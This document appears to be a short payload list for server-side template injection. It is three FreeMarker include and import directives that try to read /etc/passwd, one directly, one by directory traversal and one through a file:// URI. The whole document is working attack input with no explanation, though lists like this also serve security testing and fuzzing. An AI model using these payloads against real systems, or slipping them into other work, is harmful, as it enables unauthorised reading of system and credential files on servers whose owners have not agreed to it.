<#include "/etc/passwd">
<#include "../../../../../../etc/passwd">
<#import "file:///etc/passwd" as machine>
